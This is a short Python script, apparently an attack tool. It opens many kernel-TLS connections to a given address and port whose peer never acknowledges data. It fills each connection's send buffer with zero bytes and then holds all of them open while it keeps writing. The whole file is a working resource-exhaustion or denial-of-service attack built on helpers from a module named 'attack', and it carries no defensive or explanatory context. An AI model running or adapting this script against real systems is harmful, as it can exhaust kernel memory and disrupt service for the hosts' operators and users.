"""Connections with keys to a peer that acknowledges nothing, each with as much unacknowledged as it can have; kept."""
import sys
import time

from attack import connect, kernel_tls

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
kept, sent = [], 0
for _ in range(count):
    try:
        connection = connect(address, port, 1)
        kernel_tls(connection)
        connection.setblocking(False)
        kept.append(connection)
        while True:
            sent += connection.send(bytes(16000))
    except OSError:
        pass
print(f"{len(kept)} connections, {sent} bytes written; it holds them", flush=True)
while True:
    for connection in kept:
        try:
            connection.send(bytes(16000))
        except OSError:
            pass
    time.sleep(0.05)
